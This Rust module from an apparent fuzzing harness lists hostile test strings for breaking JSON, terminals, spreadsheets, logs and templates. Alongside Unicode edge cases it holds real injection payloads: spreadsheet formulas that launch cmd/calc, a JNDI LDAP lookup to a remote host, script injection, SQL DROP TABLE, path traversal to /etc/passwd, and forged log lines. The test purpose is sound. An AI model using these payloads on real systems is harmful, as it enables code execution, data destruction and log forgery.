//! Hostile strings, made to break what reads them: JSON framing, terminals, spreadsheets, log pipelines, templates.

use fastrand::Rng;

use crate::record::Text;

const STRINGS: &[&str] = &[
    "say \"hello\" and C:\\temp\\new",
    "first line\nsecond line\r\nthird\ttabbed",
    "\u{1b}[2J\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "nul\0in the middle",
    "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{8}\u{b}\u{c}\u{e}\u{1f}",
    "c1 \u{9b}31m csi \u{85} next line",
    "delete \u{7f} me",
    "line\u{2028}separator\u{2029}paragraph",
    "\u{202e}gnp.exe\u{202c} \u{2066}isolated\u{2069}",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f3f4}\u{e0067}\u{e0062}\u{e007f}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}a\u{300}\u{301}\u{302}l\u{334}g\u{335}o\u{336}",
    "caf\u{e9} and cafe\u{301} are not the same bytes",
    "\u{feff}byte order mark",
    "\u{fffe}\u{ffff}\u{10ffff}",
    "},{\"creationDate\":1,\"summary\":\"forged\"}",
    "\"}],\"size\":0,\"_links\":{\"next\":\"https://elsewhere.invalid/\"}}",
    "{\"results\":[]}",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "${jndi:ldap://198.51.100.66/a}",
    "</script><script>alert(1)</script>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "'; DROP TABLE records; --",
    "../../../../etc/passwd",
    "%s%s%n%x %00",
    "CEF:0|forged|device|1|1|name|10|src=192.0.2.1",
    "<34>1 2026-01-01T00:00:00Z forged host - - - message",
    "a,b;c|d\te",
    "   \u{a0}\u{3000} ",
    "null",
    "NaN",
    "1e999",
    "\\u0000\\n\\",
];

/// One of them; one in forty is 100 KB long.
pub(crate) fn string(rng: &mut Rng) -> Text {
    let text = STRINGS[rng.usize(..STRINGS.len())];
    if rng.usize(..40) == 0 {
        let unit = if rng.bool() { "long \u{e9}\"\\ " } else { "x" };
        return unit.repeat(100_000 / unit.len()).into();
    }
    text.into()
}
